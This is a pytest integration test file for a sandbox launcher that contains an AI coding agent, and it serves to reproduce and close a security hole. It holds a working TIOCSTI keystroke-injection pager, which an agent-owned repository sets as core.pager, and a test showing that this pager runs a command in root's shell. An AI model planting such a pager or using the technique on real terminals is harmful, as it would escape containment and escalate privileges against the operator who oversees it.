"""A safe way to review the agent's work (issue 24, layer 6): ``sandbox-launch --run``.

The advice the docs gave, ``runuser -u AGENT -- git -C /srv/app log``, runs the agent's
pager (here the workspace's own ``core.pager``, which the agent wrote) as the agent but
on root's terminal: with ``dev.tty.legacy_tiocsti`` = 1 it types a command into root's
terminal and root's shell runs it when git exits. ``sandbox-launch --run git log`` runs
git as the agent in the session's containment instead, where the same pager gets a
terminal of its own (bwrap ``--new-session`` in sandbox mode, the relayed pty in user
mode): root's shell reads only what root types.

Also: ``--run`` passes none of the caller's variables, refuses an untrusted or missing
program and unsafe mode, and its ``--dry-run`` shows the program in place of Claude.
"""

from __future__ import annotations

import fcntl
import os
import pty
import select
import subprocess
import sys
import termios
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.launch_fixtures import LaunchTree, launcher_env, make_launch_tree
from tests.tools import REPO, require_root, require_tool

pytestmark = pytest.mark.integration

# The agent's pager: pushes a command into its terminal's input queue.
INJECTING_PAGER = """#!/usr/bin/python3
import fcntl, sys, termios
sys.stdout.write(sys.stdin.read())
sys.stdout.flush()
log = open({log!r}, "a", buffering=1)
try:
    with open("/dev/tty", "rb", buffering=0) as tty:
        for byte in {command!r}.encode():
            fcntl.ioctl(tty, termios.TIOCSTI, bytes([byte]))
    log.write("TIOCSTI allowed\\n")
except OSError as exc:
    log.write("TIOCSTI errno %d\\n" % exc.errno)
"""


@pytest.fixture
def tree() -> Iterator[LaunchTree]:
    require_root()
    for tool in ("bwrap", "git", "runuser"):
        require_tool(tool)
    if Path("/proc/sys/dev/tty/legacy_tiocsti").read_text().strip() == "0":
        pytest.skip("legacy_tiocsti is 0 here: no process can push keystrokes into a terminal")
    with make_launch_tree() as made:
        yield made


def _plant(tree: LaunchTree, proof: Path) -> Path:
    """A repository in the workspace whose config the agent wrote: core.pager is its
    program. Returns the pager's log."""
    ws = tree.workspace
    git = ["git", "-C", str(ws), "-c", "safe.directory=*", "-c", "user.name=a"]
    git += ["-c", "user.email=a@example.invalid"]
    subprocess.run([*git, "init", "-q"], check=True)
    (ws / "file").write_text("work\n")
    subprocess.run([*git, "add", "file"], check=True)
    subprocess.run([*git, "commit", "-q", "-m", "the agent's work"], check=True)
    log = ws / "pager.log"
    pager = ws / ".p" / "pager"
    pager.parent.mkdir()
    pager.write_text(INJECTING_PAGER.format(log=str(log), command=f"id -u > {proof}\n"))
    pager.chmod(0o755)
    subprocess.run([*git, "config", "core.pager", str(pager)], check=True)
    agent = f"{tree.agent.uid}:{tree.agent.gid}"
    subprocess.run(["chown", "-R", agent, str(ws)], check=True)
    return log


def _read_some(master: int) -> bytes:
    ready, _, _ = select.select([master], [], [], 0.05)
    if not ready:
        return b""
    try:
        return os.read(master, 4096)
    except OSError:
        return b""


def _as_ctty() -> None:
    fcntl.ioctl(0, termios.TIOCSCTTY, 0)


def _operator_shell(command: str, typed: Path) -> tuple[bytes, int]:
    """Root's interactive shell on a terminal: runs ``command``, then the next line in
    the terminal's queue (what root types next, or what was pushed into it)."""
    shell = f'{command}; echo REVIEW-EXIT $?; read -r line; eval "$line"'
    master, slave = pty.openpty()
    proc = subprocess.Popen(
        ["/bin/sh", "-c", shell],
        stdin=slave, stdout=slave, stderr=slave, start_new_session=True,
        preexec_fn=_as_ctty, env=launcher_env(), cwd=REPO,
    )  # fmt: skip
    os.close(slave)
    output = b""
    try:
        deadline = time.monotonic() + 90
        while b"REVIEW-EXIT" not in output and time.monotonic() < deadline:
            output += _read_some(master)
        os.write(master, f"echo typed > {typed}\n".encode())
        deadline = time.monotonic() + 30
        while proc.poll() is None and time.monotonic() < deadline:
            output += _read_some(master)
    finally:
        if proc.poll() is None:
            proc.kill()
        proc.wait()
        os.close(master)
    return output, proc.returncode


def test_the_old_advice_lets_the_agents_pager_type_into_roots_terminal(tree: LaunchTree) -> None:
    """The reproduction (why the docs changed): runuser on root's terminal."""
    proof = tree.config_dir / "as-root-proof"  # root-only directory: only root can create it
    typed = tree.config_dir / "operator-typed"
    log = _plant(tree, proof)
    output, _ = _operator_shell(
        f"runuser -u {tree.agent.name} -- git -C {tree.workspace} log", typed
    )
    assert "TIOCSTI allowed" in log.read_text(), output
    assert proof.read_text().strip() == "0", "root's shell ran what the agent's pager typed"


@pytest.mark.parametrize("mode", ["sandbox", "user"])
def test_run_reviews_as_the_agent_and_nothing_reaches_roots_shell(
    tree: LaunchTree, mode: str
) -> None:
    proof = tree.config_dir / "as-root-proof"
    typed = tree.config_dir / "operator-typed"
    log = _plant(tree, proof)
    config = tree.write_config("/usr/bin/true", mode=mode)
    launcher = f"{sys.executable} -m sandbox_setup.launcher --config {config}"
    output, _ = _operator_shell(f"{launcher} --run git log", typed)
    assert b"REVIEW-EXIT 0" in output, output
    assert b"the agent's work" in output, "git log ran and printed through the pager"
    assert log.exists(), "the agent's pager ran (as the agent, contained)"
    assert not proof.exists(), f"the agent ran a command as root: {proof.read_text()!r}"
    assert typed.read_text() == "typed\n", output


def _launch(config: Path, *args: str, env: dict[str, str] | None = None) -> tuple[int, str]:
    done = subprocess.run(
        [sys.executable, "-m", "sandbox_setup.launcher", "--config", str(config), *args],
        capture_output=True, text=True, env=env or launcher_env(), cwd=REPO,
        stdin=subprocess.DEVNULL, timeout=120,
    )  # fmt: skip
    return done.returncode, done.stdout + done.stderr


def test_run_passes_none_of_the_callers_variables_and_shows_the_program(
    tree: LaunchTree,
) -> None:
    config = tree.write_config("/usr/bin/true", mode="sandbox", env_pass=["ANTHROPIC_API_KEY"])
    env = launcher_env({"ANTHROPIC_API_KEY": "sk-secret"})
    code, out = _launch(config, "--dry-run", "--run", "git", "log", "-p", env=env)
    assert code == 0, out
    assert "/usr/bin/git log -p" in out
    assert "ANTHROPIC_API_KEY" not in out
    assert "not Claude Code" in out
    code, out = _launch(config, "--dry-run", "--", "--print", "x", env=env)
    assert "ANTHROPIC_API_KEY=<set, not shown>" in out, "Claude's launch still passes it"


def test_run_refuses_what_it_cannot_trust(tree: LaunchTree) -> None:
    config = tree.write_config("/usr/bin/true", mode="sandbox")
    planted = tree.workspace / "git"
    planted.write_text("#!/bin/sh\nexit 0\n")
    planted.chmod(0o777)
    code, out = _launch(config, "--run", str(planted))
    assert code == 3, out
    assert str(planted) in out
    code, out = _launch(config, "--run", "no-such-program-here")
    assert (code, "not found on PATH" in out) == (3, True), out
    code, out = _launch(config, "--run")
    assert code == 2 and "--run needs a program" in out, out
    unsafe = tree.write_config("/usr/bin/true", mode="unsafe", accepted=True, name="u.toml")
    code, out = _launch(unsafe, "--run", "git", "log")
    assert code == 3 and "needs an agent account" in out, out


def _roots_repository(repo: Path) -> None:
    """A repository made and committed by root (the operator's own) after the apply."""
    git = ["git", "-C", str(repo), "-c", "safe.directory=*", "-c", "user.name=root"]
    git += ["-c", "user.email=r@example.invalid"]
    subprocess.run([*git, "init", "-q"], check=True)
    (repo / "app.txt").write_text("root's code\n")
    subprocess.run([*git, "add", "app.txt"], check=True)
    subprocess.run([*git, "commit", "-q", "-m", "root's own commit"], check=True)
    assert (repo / ".git").stat().st_uid == 0


@pytest.mark.parametrize("mode", ["sandbox", "user"])
def test_run_reviews_roots_own_repository(tree: LaunchTree, mode: str) -> None:
    """The reproduction: ``--run git -C WS log`` exited 128 ("dubious ownership") on
    a root-owned repository; now that run (only) trusts the workspace's repositories."""
    repo = tree.workspace / "app"
    repo.mkdir()
    _roots_repository(repo)
    _roots_repository(tree.workspace)  # the workspace itself, a repository too
    config = tree.write_config("/usr/bin/true", mode=mode)
    for where in (repo, tree.workspace):
        code, out = _launch(config, "--quiet", "--run", "git", "-C", str(where), "log", "-1")
        assert code == 0, out
        assert "root's own commit" in out, out
        assert "dubious ownership" not in out, out
    code, out = _launch(config, "--dry-run", "--run", "git", "log")
    assert code == 0, out
    assert _trusted(out) == {str(tree.workspace), str(repo)}, out
    assert "GIT_CONFIG_COUNT=2" in out, out


def _trusted(dry_run: str) -> set[str]:
    """The safe.directory values a --dry-run's environment gives git."""
    lines = [line.strip() for line in dry_run.splitlines()]
    keys = {line.split("=", 1)[1] for line in lines if line.startswith("GIT_CONFIG_KEY_")}
    assert keys <= {"safe.directory"}, dry_run
    return {line.split("=", 1)[1] for line in lines if line.startswith("GIT_CONFIG_VALUE_")}


def test_only_a_review_run_trusts_the_repositories(tree: LaunchTree) -> None:
    """Claude's launch gets none of it: its environment has no GIT_CONFIG_*."""
    _roots_repository(tree.workspace)
    for mode in ("sandbox", "user"):
        config = tree.write_config("/usr/bin/true", mode=mode, name=f"{mode}.toml")
        code, out = _launch(config, "--dry-run", "--", "--print", "x")
        assert code == 0, out
        assert "GIT_CONFIG" not in out, out
        code, out = _launch(config, "--dry-run", "--run", "git", "status")
        assert _trusted(out) == {str(tree.workspace)}, out
